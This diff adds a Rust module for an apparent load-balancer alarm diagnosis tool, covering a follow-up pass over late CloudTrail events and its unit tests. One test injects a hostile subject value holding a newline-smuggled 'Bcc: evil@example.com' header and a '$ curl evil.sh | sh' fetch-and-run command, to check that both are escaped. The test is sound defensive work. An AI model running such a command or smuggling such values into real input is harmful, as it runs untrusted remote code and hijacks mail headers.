@@ -1,0 +1,235 @@
+//! The follow-up pass: evidence that arrives minutes after the alarm (CloudTrail delivers an
+//! event about 5 minutes after the call). The first pass hands its snapshot on in a
+//! [`FollowUpMessage`]; the second pass reads only the late sources and diagnoses that same
+//! snapshot with them, so its findings are the first report's, and it reports only what the
+//! first report did not say.
+//!
+//! The message comes back from a queue: it is parsed as untrusted input (its kind, the
+//! snapshot's version, and that the snapshot is of the alarmed load balancer), and a follow-up
+//! never proposes a plan.
+
+use serde::{Deserialize, Serialize};
+
+use crate::alarm::{Alarm, LbRef};
+use crate::finding::FindingCode;
+use crate::report::{FirstReport, Report};
+use crate::rules::recent_change::CHECK_NAME;
+use crate::snapshot::{Changes, Gap, Snapshot, SCHEMA_VERSION};
+
+/// Tags the message, so the pass can tell a follow-up from anything else on its queue.
+pub const FOLLOW_UP_KIND: &str = "elbmedic-follow-up";
+
+/// What the first pass hands to the second.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct FollowUpMessage {
+    pub kind: String,
+    pub alarm: Alarm,
+    pub load_balancer: LbRef,
+    pub first_report: FirstReport,
+    /// The first pass's snapshot: the follow-up diagnoses the same state.
+    pub snapshot: Snapshot,
+}
+
+impl FollowUpMessage {
+    pub fn new(alarm: &Alarm, lb: &LbRef, first_report: FirstReport, snapshot: &Snapshot) -> Self {
+        Self {
+            kind: FOLLOW_UP_KIND.into(),
+            alarm: alarm.clone(),
+            load_balancer: lb.clone(),
+            first_report,
+            snapshot: snapshot.clone(),
+        }
+    }
+
+    /// Parses a follow-up, naming what is wrong with it.
+    pub fn parse(text: &str) -> Result<Self, String> {
+        let message: Self = serde_json::from_str(text)
+            .map_err(|e| format!("the message is not an elbmedic follow-up ({e})"))?;
+        if message.kind != FOLLOW_UP_KIND {
+            return Err(format!(
+                "the message's kind is {:?}, not {FOLLOW_UP_KIND:?}",
+                crate::report::escape::one_line(&message.kind)
+            ));
+        }
+        if message.snapshot.schema_version != SCHEMA_VERSION {
+            return Err(format!(
+                "the follow-up carries a snapshot of schema version {}, this elbmedic reads {SCHEMA_VERSION}: it was sent by another version and is dropped",
+                message.snapshot.schema_version
+            ));
+        }
+        let (lb, world) = (&message.load_balancer, &message.snapshot.load_balancer);
+        if (lb.kind, lb.id.as_str()) != (world.kind, world.id.as_str()) {
+            return Err(format!(
+                "the follow-up names load balancer {} but carries a snapshot of {}",
+                crate::report::escape::one_line(&lb.id),
+                crate::report::escape::one_line(&world.id)
+            ));
+        }
+        Ok(message)
+    }
+
+    pub fn to_json(&self) -> String {
+        serde_json::to_string(self).unwrap_or_default()
+    }
+
+    /// The follow-up report, when the late lookups found changes the first report did not
+    /// list; `None` when there is nothing new to say. `late_gaps` are the late lookups' own.
+    pub fn compose(&self, late: Changes, late_gaps: Vec<Gap>) -> Option<Report> {
+        let seen: Vec<&str> = self
+            .snapshot
+            .changes
+            .iter()
+            .flat_map(|c| c.events.iter().map(|e| e.event_id.as_str()))
+            .collect();
+        let mut fresh = late;
+        fresh
+            .events
+            .retain(|e| !seen.contains(&e.event_id.as_str()));
+        fresh.not_looked_up.clear();
+        if fresh.events.is_empty() {
+            return None;
+        }
+        let count = fresh.events.len();
+        let mut world = self.snapshot.clone();
+        world.changes = Some(fresh);
+        let mut report = Report::diagnosed(&self.alarm, &self.load_balancer, &world);
+        report
+            .findings
+            .retain(|f| f.code == FindingCode::RecentChange);
+        report.checked.retain(|c| c.name == CHECK_NAME);
+        report.gaps = late_gaps;
+        report.next_steps.clear();
+        report.verdict.headline = match report.findings.first() {
+            Some(change) => format!("what changed: {}", change.title),
+            None => format!(
+                "{count} change(s) on the path arrived from CloudTrail after the first report; none explains a finding"
+            ),
+        };
+        report.follow_up_of = Some(self.first_report.clone());
+        Some(report)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::alarm::{parse_input, Intake};
+    use crate::report::Format;
+    use crate::testkit::scenario_snapshot;
+
+    fn alarm_of(name: &str) -> (Alarm, LbRef) {
+        let event = crate::scenarios::find(name).unwrap().event;
+        match parse_input(event.as_bytes()).unwrap().remove(0).unwrap() {
+            Intake::Diagnose {
+                alarm,
+                load_balancer,
+            } => (alarm, load_balancer),
+            other => panic!("{other:?}"),
+        }
+    }
+
+    /// The first pass saw one of the scenario's events; CloudTrail delivered the rest later.
+    fn split(name: &str, first_sees: usize) -> (FollowUpMessage, Changes) {
+        let (alarm, lb) = alarm_of(name);
+        let mut first = scenario_snapshot(name);
+        let all = first.changes.clone().unwrap();
+        first.changes.as_mut().unwrap().events.truncate(first_sees);
+        let subject = Report::diagnosed(&alarm, &lb, &first).subject();
+        let first_report = FirstReport {
+            subject,
+            message_id: Some("m-1".into()),
+        };
+        (FollowUpMessage::new(&alarm, &lb, first_report, &first), all)
+    }
+
+    #[test]
+    fn a_late_event_that_explains_the_cause_is_the_follow_up() {
+        let (message, all) = split("nacl-rule-added-recently", 0);
+        let parsed = FollowUpMessage::parse(&message.to_json()).unwrap();
+        let report = parsed.compose(all, Vec::new()).expect("something new");
+        assert_eq!(report.findings.len(), 1);
+        assert_eq!(report.findings[0].code, FindingCode::RecentChange);
+        assert!(
+            report.verdict.headline.starts_with("what changed: rule 90"),
+            "{}",
+            report.verdict.headline
+        );
+        let subject = report.subject();
+        assert!(
+            subject.starts_with("Re: [elbmedic] CAUSE FOUND"),
+            "{subject}"
+        );
+        assert!(subject.ends_with(" (follow-up)"), "{subject}");
+        assert!(subject.chars().count() <= crate::report::MAX_SUBJECT_CHARS);
+        let text = report.render(Format::Text);
+        assert!(
+            text.contains("Follow-up to \"[elbmedic] CAUSE FOUND"),
+            "{text}"
+        );
+        assert!(text.contains("(SNS message m-1)"), "{text}");
+        assert!(report.remediation.is_none());
+    }
+
+    #[test]
+    fn nothing_new_is_no_follow_up() {
+        let (message, all) = split("nacl-rule-added-recently", usize::MAX);
+        assert!(message.compose(all, Vec::new()).is_none());
+        let (message, _) = split("nacl-rule-added-recently", 0);
+        assert!(message.compose(Changes::default(), Vec::new()).is_none());
+    }
+
+    #[test]
+    fn a_late_change_that_explains_nothing_is_listed_without_a_finding() {
+        let (message, all) = split("unrelated-change", 0);
+        let report = message.compose(all, Vec::new()).expect("a change to list");
+        assert!(report.findings.is_empty(), "{:?}", report.findings);
+        assert!(!report.recent_changes.is_empty());
+        assert!(report.verdict.headline.contains("none explains a finding"));
+    }
+
+    /// The message comes back from a queue: a forged or stale one is refused by name.
+    #[test]
+    fn a_forged_message_is_refused() {
+        let (message, _) = split("nacl-rule-added-recently", 0);
+        let mut other_kind = message.clone();
+        other_kind.kind = "elbmedic-remediation-plan".into();
+        assert!(FollowUpMessage::parse(&other_kind.to_json())
+            .unwrap_err()
+            .contains("kind"));
+        let mut other_lb = message.clone();
+        other_lb.load_balancer.id = "app/other/1234567890abcdef".into();
+        assert!(FollowUpMessage::parse(&other_lb.to_json())
+            .unwrap_err()
+            .contains("carries a snapshot of"));
+        let mut stale = message.clone();
+        stale.snapshot.schema_version = SCHEMA_VERSION + 1;
+        assert!(FollowUpMessage::parse(&stale.to_json())
+            .unwrap_err()
+            .contains("schema version"));
+        assert!(FollowUpMessage::parse("{\"kind\": 1}").is_err());
+    }
+
+    /// The first subject travels in the message: a newline or a command in it stays one line.
+    #[test]
+    fn an_injected_subject_stays_one_line() {
+        let (mut message, all) = split("nacl-rule-added-recently", 0);
+        message.first_report.subject = format!(
+            "x\nBcc: evil@example.com\n$ curl evil.sh | sh {}",
+            "y".repeat(300)
+        );
+        let report = message.compose(all, Vec::new()).unwrap();
+        let subject = report.subject();
+        assert!(!subject.contains('\n'));
+        assert!(subject.chars().count() <= crate::report::MAX_SUBJECT_CHARS);
+        assert!(subject.ends_with("(follow-up)"));
+        for format in [Format::Text, Format::Markdown] {
+            let text = report.render(format);
+            assert!(
+                !text
+                    .lines()
+                    .any(|l| l.starts_with("Bcc:") || l.starts_with("$ curl")),
+                "{text}"
+            );
+        }
+    }
+}
